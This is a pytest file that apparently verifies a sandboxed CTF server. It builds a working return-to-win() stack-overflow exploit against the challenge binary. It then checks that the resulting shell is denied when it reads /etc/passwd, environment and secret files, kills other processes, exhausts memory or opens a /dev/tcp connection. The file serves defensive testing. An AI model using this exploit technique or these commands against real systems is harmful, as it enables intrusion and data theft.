"""c-examples/ctf: a program with a hole, and what an exploit has once it is inside.

The exploit is a real one: a name that is too long, whose end is the address of win().
"""

import contextlib
import os
import platform
import pwd
import re
import shutil
import signal
import socket
import struct
import subprocess
import time
from pathlib import Path

import pytest

from harness import procfs
from harness.client import Client, from_source
from harness.examples import BY_NAME, run
from harness.fronts import EXAMPLES

CHALLENGE = EXAMPLES / "ctf/challenge"
pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root"),
    pytest.mark.skipif(platform.machine() != "x86_64", reason="the exploit is for x86-64"),
]
# How long the time limit is in all tests but that of the limit itself.
LONG, SHORT = "60", "2"


@pytest.fixture
def serve_ctf(tmp_path_factory, start_example):
    folder = tmp_path_factory.mktemp("ctf")
    folder.chmod(0o755)  # Another user than root is to come in.
    shutil.copy(CHALLENGE, folder)
    (folder / "flag").write_text("flag{it was too long}\n")
    secret = folder.parent / "secret"
    secret.write_text("not for players\n")
    secret.chmod(0o644)

    def start(seconds=LONG):
        server = start_example("ctf", "127.0.0.1:0", seconds, str(folder), "challenge")
        server.secret = secret
        return server

    return start


def symbol(name):
    """Where the challenge has a function."""
    table = subprocess.run(
        ["nm", CHALLENGE], check=True, capture_output=True, text=True, timeout=20
    ).stdout
    return int(re.search(rf"^(\w+) T {name}$", table, re.MULTILINE)[1], 16)


# Where the program lies: it is linked to a fixed address.
BASE = 0x400000


def too_long_names():
    """Each returns from greet() into a row of returns, whose end is win(). With one of the
    two lengths the stack is aligned as win() has it from a caller.
    """
    win = symbol("win")
    ret = BASE + CHALLENGE.read_bytes().index(b"\xc3", win - BASE)
    for length in (13, 12):
        yield struct.pack(f"<{length + 1}Q", *[ret] * length, win)


class Intruder(Client):
    """A client that has a shell where others have a greeting."""

    def say(self, command):
        """What the shell writes next; dash ends some messages with an empty line."""
        self.send(command.encode() + b"\n")
        while not (line := self.line().decode()):
            pass
        return line

    def breaks_in(self, name):
        assert self.line() == b"What is your name?"
        self.send(name)
        self.line()
        try:
            self.pid = int(self.say("echo $$"))
        except (AssertionError, ConnectionError):
            return False
        return True


def intruder(server, source="127.0.0.2"):
    for name in too_long_names():
        client = Intruder(server.address, source=source)
        server.cleanups.append(client.close)
        if client.breaks_in(name):
            return client
    raise AssertionError("the exploit does not work")


def greeted(server, name=b"player"):
    """A whole visit as it is meant to be."""
    with Client(server.address) as client:
        assert client.line() == b"What is your name?"
        client.send(name + b"\n")
        assert client.line() == b"hello " + name
        assert client.rest() == b"\n"


def test_the_exploit_finds_the_flag_and_nothing_beside_it(serve_ctf):
    server = serve_ctf()
    greeted(server)
    shell = intruder(server)
    assert shell.say("read line < flag; echo $line") == "flag{it was too long}"
    for path in (server.secret, "/etc/passwd", "/proc/self/environ", "/dev/null"):
        assert "Permission denied" in shell.say(f"read line < {path}"), path
    assert "Permission denied" in shell.say("echo mine > flag")
    assert "Permission denied" in shell.say("echo new > another")
    greeted(server)


def test_it_has_its_own_process_only(serve_ctf):
    server = serve_ctf()
    with Client(server.address) as victim:
        assert victim.line() == b"What is your name?"
        (other,) = server.children()
        shell = intruder(server)
        assert shell.pid in server.children()
        for pid in (other, server.pid, 1):
            assert "Operation not permitted" in shell.say(f"kill -9 {pid}")
        assert "Permission denied" in shell.say(f"read line < /proc/{other}/maps")
        victim.send(b"player\n")
        assert victim.line() == b"hello player"
        status = dict(
            line.split(":\t", 1)
            for line in Path(f"/proc/{shell.pid}/status").read_text().splitlines()
            if ":\t" in line
        )
        assert status["Uid"].split() == [str(pwd.getpwnam("nobody").pw_uid)] * 4
        assert status["CapEff"] == "0" * 16
        assert status["NoNewPrivs"] == "1"
        assert set(procfs.fds(shell.pid)) == {0, 1, 2}
        assert "Cannot fork" in shell.say("( : )")


def test_it_has_sixty_four_megabytes(serve_ctf):
    server = serve_ctf()
    shell = intruder(server)
    name = shell.name
    limits = Path(f"/proc/{shell.pid}/limits").read_text()
    assert re.search(f"^Max address space +{64 << 20} +{64 << 20} ", limits, re.MULTILINE)
    shell.send(b'x=0123456789abcdef; while :; do x="$x$x"; done\n')
    assert shell.rest() == b""
    # dash does not look at what the kernel refuses it.
    server.wait_lines(f"{name} ended by signal {int(signal.SIGSEGV)}")
    greeted(server)


def test_it_has_so_many_seconds(serve_ctf):
    server = serve_ctf(SHORT)
    shell = intruder(server)
    name = shell.name
    began = time.monotonic()
    # The polite signal does not help; half a second later comes the other one.
    shell.send(b"trap '' TERM; while :; do :; done\n")
    assert shell.rest() == b""
    assert time.monotonic() - began < 10
    server.wait_lines(f"{name} ended by signal {int(signal.SIGKILL)}")
    greeted(server)


def test_it_has_no_network(serve_ctf):
    server = serve_ctf()
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = other.getsockname()[1]
        connect = f"exec /bin/bash --norc -c 'echo > /dev/tcp/127.0.0.1/{port}'"
        shell = intruder(server)
        assert "Network is unreachable" in shell.say(connect)
        other.settimeout(0)
        with pytest.raises(BlockingIOError):
            other.accept()
    # The server has its listener, and nobody else has lost the network.
    assert os.stat(f"/proc/{server.pid}/ns/net").st_ino != os.stat("/proc/self/ns/net").st_ino
    greeted(server)


def test_one_address_has_four_connections(serve_ctf):
    server = serve_ctf()
    with contextlib.ExitStack() as stack:
        for _ in range(4):
            client = stack.enter_context(from_source("127.0.0.2", server.address))
            assert client.line() == b"What is your name?"
        with from_source("127.0.0.2", server.address) as fifth:
            assert fifth.rest() == b""
            server.wait_lines(f"{fifth.name} refused")
        greeted(server)


def test_wrong_arguments_are_answered_by_the_usage(tmp_path):
    for arguments in (
        [],
        ["127.0.0.1:0", "0", str(tmp_path), "x"],
        ["a", "1", "relative", "x"],
    ):
        done = run(BY_NAME["ctf"], *arguments)
        assert done.returncode == 2
        assert done.stderr.startswith("Usage")
